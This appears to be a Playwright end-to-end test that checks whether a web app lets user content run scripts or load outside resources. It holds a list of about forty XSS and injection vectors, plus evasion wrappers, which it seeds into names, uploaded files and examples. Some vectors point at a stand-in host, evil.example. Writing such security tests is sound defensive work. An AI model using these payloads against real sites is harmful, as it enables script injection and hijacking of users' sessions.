// What tries to run a script, or to load something from elsewhere, in everything that people and files bring.
// (Diagrams have their own payloads, in studio.spec.ts.)

import type { BrowserContext, Page } from "@playwright/test";
import { collectFaults } from "./faults";
import { expect, test } from "./server";
import { signUp } from "./workspace";

const RUN = "window.top.pwned=1";
const AWAY = "https://evil.example/x";

const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${AWAY}.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<style>@import url(${AWAY}.css);</style>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=${AWAY}.mp3 autoplay></audio>`,
  `<video poster=${AWAY}.png></video>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `![x](${AWAY}.png)`,
  `<javascript:${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"-${RUN}-"`,
  `';${RUN}//`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</x>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];
const WRAPS = [
  (vector: string) => vector,
  (vector: string) => vector.replaceAll(/<([a-z]+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (vector: string) => `"'>${vector}`,
  (vector: string) => `</textarea></title></style></script>${vector}`,
  (vector: string) => `\u200b<${vector}`,
  (vector: string) => `# ${vector}`,
  (vector: string) => `| ${vector} | ${vector} |`,
  (vector: string) => `**Who** is ${vector}? ${vector} is the keeper of the archive.`,
];
const PAYLOADS = WRAPS.flatMap((wrap) => VECTORS.map(wrap));

/** Requests to anywhere but the server, and dialogs. */
function watch(context: BrowserContext, origin: string): string[] {
  const seen: string[] = [];
  context.on("request", (request) => {
    const address = new URL(request.url());
    if (address.protocol.startsWith("http") && address.origin !== origin) seen.push(request.url());
  });
  context.on("dialog", () => seen.push("a dialog"));
  return seen;
}

/** Shows a page to its end, and touches what a pointer would. */
async function show(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
  await expect(page.locator("[aria-label=Loading], .shimmer")).toHaveCount(0);
  for (let at = 0; at < 6; at += 1) {
    await page.mouse.wheel(0, 4000);
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
  }
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned), address).toBeUndefined();
}

test("no payload in documents, names or examples runs or loads anything", async ({ page, context, server }) => {
  test.setTimeout(240_000);
  expect(new Set(PAYLOADS).size).toBeGreaterThan(300);
  const faults = await collectFaults(context);
  const seen = watch(context, server.url);
  await signUp(page.request, server.url);
  const url = (path: string) => `${server.url}/api/v1${path}`;
  const post = async (path: string, data: object) => {
    const answer = await page.request.post(url(path), { data });
    expect(answer.status(), await answer.text()).toBe(201);
    return (await answer.json()).data;
  };
  const name = (at: number) => PAYLOADS[at % PAYLOADS.length].replaceAll(/[\t\u200b]/g, "").slice(0, 80);

  const agent = await post("/agents", { name: name(2), description: PAYLOADS.slice(0, 10).join(" ").slice(0, 500) });
  for (let at = 0; at < 12; at += 1) await post("/agents", { name: name(at * 7), description: name(at * 11) });
  await post("/workspaces", { name: name(4).slice(0, 60) });

  const files: [string, string][] = [
    ["md", PAYLOADS.join("\n\n")],
    ["txt", PAYLOADS.toReversed().join("\n\n")],
    ["csv", ["word,meaning", ...PAYLOADS.map((payload) => `x,"${payload.replaceAll('"', '""')}"`)].join("\n")],
    ["json", JSON.stringify(Object.fromEntries(PAYLOADS.map((payload) => [payload, payload])))],
    ["xml", `<all>${PAYLOADS.map((payload) => `<p><![CDATA[${payload}]]></p>`).join("")}</all>`],
  ];
  const documents = [];
  for (const [at, [extension, text]] of files.entries()) {
    const file = { name: `${name(at + 2).replaceAll("/", " ")}.${extension}`, mimeType: "application/octet-stream", buffer: Buffer.from(text) };
    const answer = await page.request.post(url(`/documents?agent_id=${agent.id}&kind=work_product`), { multipart: { file } });
    expect(answer.status(), await answer.text()).toBe(201);
    documents.push((await answer.json()).data.id);
  }
  for (let at = 0; at < PAYLOADS.length; at += 3) {
    const [prompt, reasoning, response] = [0, 1, 2].map((next) => PAYLOADS[(at + next) % PAYLOADS.length]);
    await post("/examples", { agent_id: agent.id, prompt, reasoning, response });
  }
  const ready = async (id: string) => (await (await page.request.get(url(`/documents/${id}`))).json()).data.status;
  for (const id of documents) await expect.poll(() => ready(id), { timeout: 60_000 }).toBe("ready");

  await show(page, "/dashboard");
  await show(page, "/studio");
  for (const tab of ["", "documents", "examples", "models"]) await show(page, `/assistants/${agent.id}?tab=${tab}`);
  for (const id of documents) await show(page, `/documents/${id}`);
  await show(page, "/settings/workspace");
  await show(page, "/settings/audit");

  // Each example, as it is reviewed.
  await show(page, `/assistants/${agent.id}?tab=examples&origin=manual`);
  for (let at = 0; at < PAYLOADS.length / 3; at += 1) await page.keyboard.press("j");
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  // What a chat quotes and a search finds.
  const found = await page.request.get(url(`/search?agent_id=${agent.id}&q=keeper%20archive`));
  expect(found.ok(), await found.text()).toBe(true);
  expect(seen).toEqual([]);
  expect(faults).toEqual([]);
});
